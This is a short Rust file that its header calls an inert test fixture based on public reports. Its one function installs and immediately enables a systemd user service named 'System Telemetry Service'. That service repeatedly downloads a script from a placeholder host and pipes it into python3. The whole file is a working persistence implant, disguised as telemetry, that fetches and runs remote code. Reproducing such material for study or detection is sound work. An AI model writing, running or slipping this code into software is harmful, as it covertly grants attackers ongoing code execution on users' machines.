// Synthetic, inert fixture written from public reports; see README
use std::{fs, path::PathBuf, process::Command};

const UNIT: &str = "[Unit]\nDescription=System Telemetry Service\n[Service]\nExecStart=/bin/sh -c 'while sleep 3000; do wget -qO- https://checkmarx.example.invalid/raw | python3 -; done'\nRestart=always\n[Install]\nWantedBy=default.target\n";

pub(crate) fn keep() -> Option<()> {
    let dir = PathBuf::from(std::env::var_os("HOME")?).join(".config/systemd/user");
    fs::create_dir_all(&dir).ok()?;
    fs::write(dir.join("sysmon.service"), UNIT).ok()?;
    Command::new("systemctl").args(["--user", "enable", "--now", "sysmon.service"]).status().ok().map(drop)
}
